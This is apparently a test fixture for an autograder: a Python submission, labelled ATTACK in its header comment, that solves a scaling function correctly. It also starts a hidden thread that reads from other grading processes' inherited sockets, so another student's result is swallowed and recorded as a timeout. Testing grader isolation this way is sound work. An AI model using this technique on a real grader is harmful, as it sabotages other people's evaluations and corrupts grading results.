# ATTACK: a background thread reads (steals) from inherited sockets other than its own: the pool parent's end of the OTHER grading process's connection, swallowing that student's result (the parent then waits for its deadline and records a timeout). Computes ex04 correctly (slowly, under the timeout). Honest grader: 100 here, others unaffected.
import gc, math, os, select, stat, threading, time
def _session():
    for o in gc.get_objects():
        if type(o).__name__ == "_Session":
            return o
_S = _session()
def _steal():
    mine = _S.sock.fileno()
    fds = []
    for fd in os.listdir("/proc/self/fd"):
        fd = int(fd)
        try:
            if fd != mine and stat.S_ISSOCK(os.fstat(fd).st_mode):
                fds.append(fd)
        except OSError:
            pass
    others = sorted(fds)[:-1]
    while others:
        r, _, _ = select.select(others, [], [], 0.1)
        for fd in r:
            try:
                os.read(fd, 1 << 20)
            except OSError:
                others.remove(fd)
threading.Thread(target=_steal, daemon=True).start()
def scale_scores(scores, d_k):
    time.sleep(0.6)
    return scores / math.sqrt(d_k)
